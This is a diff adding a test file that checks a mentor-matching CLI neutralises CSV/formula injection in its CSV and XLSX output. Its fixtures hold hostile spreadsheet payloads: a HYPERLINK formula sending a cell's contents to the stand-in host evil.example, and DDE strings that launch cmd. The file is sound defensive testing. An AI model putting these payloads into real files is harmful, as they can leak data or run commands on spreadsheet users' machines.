@@ -1,0 +1,73 @@
+// Formula injection (OWASP "CSV Injection"): participant text that starts with = + - @, a tab or a
+// carriage return must stay inert in every file the CLI writes. CSV cells get a leading ' (and read
+// back unchanged with unescapeFormulas); XLSX cells are text, never <f> formulas. The add-in's Excel
+// writer is covered by its own host tests (text number format before the values).
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { strFromU8, unzipSync } from 'fflate';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { listXlsxSheets, readCsv, readXlsx } from '@mentor-matcher/tabular';
+import { runCli, tempDir } from '../run-cli.js';
+import { csvText, sampleRows, withCell, type Rows } from './fixtures.js';
+
+const hostile = {
+  'first name': '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  'last name': '+cmd|\' /C calc\'!A0',
+  'job title': '-2+3',
+  biography: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+};
+const tab = '\t=1+1';
+const carriageReturn = '\r=2+2';
+
+function poisoned(rows: Rows, index: number): Rows {
+  let out = rows;
+  for (const [name, value] of Object.entries(hostile)) out = withCell(out, index, name, value);
+  return withCell(withCell(out, index + 1, 'job title', carriageReturn), index + 1, 'biography', tab);
+}
+
+const trigger = /^[=+\-@\t\r]/;
+
+let cwd: string;
+beforeAll(async () => {
+  cwd = tempDir('mm-injection-');
+  writeFileSync(join(cwd, 'mentors.csv'), csvText(poisoned(sampleRows('mentors'), 0)));
+  writeFileSync(join(cwd, 'mentees.csv'), csvText(poisoned(sampleRows('mentees'), 2)));
+  const csv = await runCli(['match', '--mentors', 'mentors.csv', '--mentees', 'mentees.csv', '--out', 'csv', '--quiet'], { cwd });
+  const xlsx = await runCli(['match', '--mentors', 'mentors.csv', '--mentees', 'mentees.csv', '--out', 'xlsx', '--format', 'xlsx', '--quiet'], { cwd });
+  expect([csv.code, xlsx.code]).toEqual([0, 0]);
+});
+
+describe('formula injection in the CLI results', () => {
+  it('no CSV cell starts with a formula trigger', () => {
+    const files = readdirSync(join(cwd, 'csv')).filter((f) => f.endsWith('.csv'));
+    expect(files.length).toBeGreaterThanOrEqual(5);
+    for (const file of files) {
+      const table = readCsv(readFileSync(join(cwd, 'csv', file)), { source: file });
+      for (const cell of [...table.header, ...table.rows.flat()]) {
+        if (typeof cell === 'string') expect(trigger.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
+      }
+    }
+  });
+
+  it('CSV cells read back with unescapeFormulas are the participants’ text, unchanged', () => {
+    const table = readCsv(readFileSync(join(cwd, 'csv', 'mentors.csv')), { source: 'mentors.csv', unescapeFormulas: true });
+    const cells = new Set(table.rows.flat());
+    expect(cells.has(hostile['first name'])).toBe(true);
+    for (const value of [hostile.biography, hostile['job title'], tab, carriageReturn]) expect(cells.has(value), JSON.stringify(value)).toBe(true);
+    const pairs = readCsv(readFileSync(join(cwd, 'csv', 'pairs.csv')), { source: 'pairs.csv', unescapeFormulas: true });
+    expect(pairs.rows.flat().some((cell) => typeof cell === 'string' && cell.includes(hostile['first name']))).toBe(true);
+  });
+
+  it('the XLSX workbook holds no formula, and the hostile text is there as text', () => {
+    const bytes = readFileSync(join(cwd, 'xlsx', 'results.xlsx'));
+    const parts = unzipSync(bytes);
+    const sheets = Object.keys(parts).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
+    expect(sheets.length).toBeGreaterThanOrEqual(5);
+    for (const name of sheets) expect(strFromU8(parts[name])).not.toMatch(/<f[\s>]/);
+    const found = new Set<unknown>();
+    for (const sheet of listXlsxSheets(bytes, { source: 'results.xlsx' })) {
+      for (const cell of readXlsx(bytes, { source: 'results.xlsx', sheet: typeof sheet === 'string' ? sheet : sheet.name }).rows.flat()) found.add(cell);
+    }
+    for (const value of [...Object.values(hostile), tab, carriageReturn]) expect(found.has(value), JSON.stringify(value)).toBe(true);
+  });
+});
